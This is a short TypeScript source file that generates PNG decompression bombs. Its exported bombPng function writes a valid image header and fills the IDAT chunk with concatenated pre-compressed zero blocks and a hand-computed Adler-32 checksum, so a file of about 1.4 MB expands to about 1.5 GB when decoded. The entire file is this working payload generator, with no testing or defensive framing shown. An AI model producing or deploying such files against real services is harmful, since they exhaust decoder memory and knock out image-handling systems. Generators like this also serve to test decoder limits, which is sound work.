import { crc32, constants, deflateRawSync } from 'node:zlib';

const STEP = 1 << 20;
const ADLER = 65_521;

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

/** So many zeros as a zlib stream. Pieces end at whole bytes and look at nothing before, so one piece serves for all. */
function zeros(count: number): Buffer {
  const whole = deflateRawSync(Buffer.alloc(STEP), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const pieces = Array.from({ length: Math.floor(count / STEP) }, () => whole);
  const check = Buffer.alloc(4);
  check.writeUInt16BE(count % ADLER, 0);
  check.writeUInt16BE(1, 2);
  const head = Buffer.from([0x78, 0xda]);
  return Buffer.concat([head, ...pieces, deflateRawSync(Buffer.alloc(count % STEP), { level: 9 }), check]);
}

/**
 * A valid black picture that is small as a file and huge once it is decoded: 1.4 MB become 1.5 GB at 22,000 pixels a side.
 */
export function bombPng(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  // Three channels of 8 bits.
  header.set([8, 2, 0, 0, 0], 8);
  const row = 1 + 3 * side;
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', zeros(row * side)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
